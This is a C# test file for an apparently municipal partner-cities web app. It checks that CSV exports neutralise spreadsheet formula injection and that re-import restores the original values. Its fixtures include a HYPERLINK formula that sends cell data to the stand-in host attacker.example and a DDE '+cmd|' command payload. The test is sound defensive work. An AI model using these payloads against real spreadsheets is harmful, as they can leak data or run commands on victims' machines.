using System.Net;
using System.Text;
using Microsoft.EntityFrameworkCore;
using TwinningCloud.Tests.Infrastructure;
using TwinningCloud.Web.Features.Register.Agreements;
using TwinningCloud.Web.Features.Register.PartnerCities;
using TwinningCloud.Web.Platform.Identity;
using static TwinningCloud.Tests.Register.Outputs.ImportPages;

namespace TwinningCloud.Tests.Register.Outputs;

/// <summary>Issue 9, item 3: no CSV export cell is a spreadsheet formula, and export → import still gives back every value.</summary>
public sealed class CsvInjectionTests(AppFixture app) : AppTest(app)
{
    private static readonly char[] Triggers = ['=', '+', '-', '@', '\t', '\r'];

    [Fact]
    public async Task Cells_that_a_spreadsheet_would_run_as_formulas_are_exported_as_text_and_import_back_unchanged()
    {
        var marseille = await Data.CreateTenantAsync("marseille", modules: ["agreements", "network-memberships"]);
        var hyperlink = await Data.AddPartnerCityAsync(marseille, "=HYPERLINK(\"https://attacker.example/?\"&A1,\"Gênes\")", "IT");
        var at = await Data.AddPartnerCityAsync(marseille, "@SUM(1+1)", "FR");
        var hertogenbosch = await Data.AddPartnerCityAsync(marseille, "'s-Hertogenbosch", "NL"); // an apostrophe that is part of the name
        var quoted = await Data.AddPartnerCityAsync(marseille, "'=déjà protégée", "ES"); // starts like the export's own prefix
        await Data.InTenantAsync(marseille, async db =>
        {
            var city = await db.Set<PartnerCity>().SingleAsync(c => c.Id == hertogenbosch.Id);
            city.Notes = "+cmd|' /C calc'!A0";
            city.Longitude = -3.7;
            city.Latitude = 51.7;
            await db.SaveChangesAsync();
            return city;
        });
        await Data.AddAgreementAsync(marseille, "-2+3 Accord", [hyperlink, at, hertogenbosch, quoted],
            history: [new AgreementEvent { Kind = AgreementEventKind.Renewed, OccurredOn = new DateOnly(1991, 5, 23), Notes = "=1+1" }]);
        await Data.AddMembershipAsync(marseille, "ipgr", notes: "@cmd");
        await Data.CreateStaffAsync(marseille, "editor@marseille.fr", Roles.Editor);
        using var client = App.CreateClient();
        AssertStatus(HttpStatusCode.Redirect, await client.SignInAsync("/marseille", "editor@marseille.fr"));

        foreach (var (file, kind, count) in new[] { ("partner-cities.csv", "partner-city", 4), ("agreements.csv", "agreement", 1), ("memberships.csv", "membership", 1) })
        {
            var bytes = await client.GetByteArrayAsync($"/marseille/admin/export/{file}");
            var cells = Cells(Encoding.UTF8.GetString(bytes).TrimStart('\uFEFF'));
            var formulas = cells.Where(c => c.Length > 0 && Triggers.Contains(c[0]) && !double.TryParse(c, System.Globalization.CultureInfo.InvariantCulture, out _)).ToList();
            Assert.True(formulas.Count == 0, $"{file}: cells a spreadsheet would run: {string.Join(" / ", formulas)}");

            var preview = await Html.ParseAsync(await UploadAsync(client, file, bytes, "text/csv"));
            Assert.Empty(BadLines(preview));
            Assert.Equal((0, 0, count), Counts(preview)[kind]); // every value came back as it was
        }
        var partners = Cells(await client.GetStringAsync("/marseille/admin/export/partner-cities.csv"));
        Assert.Contains("'=HYPERLINK(\"https://attacker.example/?\"&A1,\"Gênes\")", partners);
        Assert.Contains("'@SUM(1+1)", partners);
        Assert.Contains("'s-Hertogenbosch", partners); // not a formula: left alone
        Assert.Contains("''=déjà protégée", partners);
        Assert.Contains("'+cmd|' /C calc'!A0", partners);
        Assert.Contains("-3.7", partners); // a number is not a formula
        var agreements = Cells(await client.GetStringAsync("/marseille/admin/export/agreements.csv"));
        Assert.Contains("'-2+3 Accord", agreements);
    }

    [Fact]
    public async Task An_import_of_the_neutralised_cells_stores_the_original_values()
    {
        var marseille = await Data.CreateTenantAsync("marseille");
        await Data.CreateStaffAsync(marseille, "editor@marseille.fr", Roles.Editor);
        using var client = App.CreateClient();
        AssertStatus(HttpStatusCode.Redirect, await client.SignInAsync("/marseille", "editor@marseille.fr"));
        const string csv = "name,country,notes\n'=Lyon,FR,'@note\n'Avignon,FR,''=x\n";

        var preview = await Html.ParseAsync(await UploadAsync(client, "partner-cities.csv", csv));
        Assert.Empty(BadLines(preview));
        AssertOk(await ApplyAsync(client, preview));

        var cities = await Data.InTenantAsync(marseille, db => db.Set<PartnerCity>().OrderBy(c => c.Name).Select(c => new { c.Name, c.Notes }).ToListAsync());
        Assert.Equal(["'Avignon", "=Lyon"], cities.Select(c => c.Name));
        Assert.Equal(["'=x", "@note"], cities.Select(c => c.Notes));
    }

    /// <summary>Every cell of an RFC 4180 CSV text (quotes undone).</summary>
    private static List<string> Cells(string csv)
    {
        var cells = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < csv.Length && csv[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c is ',' or '\n')
            {
                cells.Add(cell.ToString());
                cell.Clear();
            }
            else if (c != '\r' || i + 1 >= csv.Length || csv[i + 1] != '\n')
            {
                cell.Append(c);
            }
        }
        if (cell.Length > 0)
        {
            cells.Add(cell.ToString());
        }
        return cells;
    }
}
